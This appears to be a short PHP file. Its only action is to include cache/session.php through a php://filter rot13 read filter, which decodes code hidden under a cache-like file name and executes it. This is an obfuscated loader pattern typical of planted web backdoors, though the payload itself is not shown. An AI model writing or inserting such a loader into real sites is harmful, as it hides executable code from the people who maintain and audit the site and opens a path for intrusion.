<?php
include "php://filter/read=string.rot13/resource=" . __DIR__ . "/cache/session.php";
